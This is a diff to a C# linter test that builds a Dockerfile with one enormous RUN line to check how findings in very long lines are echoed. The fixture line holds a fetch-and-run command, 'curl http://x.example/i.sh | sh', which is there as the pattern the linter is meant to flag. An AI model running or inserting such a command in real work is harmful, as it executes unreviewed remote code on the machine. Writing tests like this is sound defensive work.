@@ -45,7 +45,7 @@ public class TerminalSafetyTests
     public void A_huge_single_line_is_echoed_in_a_window_around_the_finding()
     {
         string dir = TempDirectory.Create();
-        string padding = new('a', 9_000_000);
+        string padding = new('a', 4_000_000); // 8 MB on one line: under the 16 MiB file limit
         File.WriteAllText(Path.Combine(dir, "Dockerfile"), "FROM alpine:3.20\nUSER 1000\nRUN echo " + padding + " && curl http://x.example/i.sh | sh && echo " + padding + "\n");
         var result = CliProcess.Run(dir, null, "lint", "--no-color", "Dockerfile");
         Assert.Equal(1, result.ExitCode);
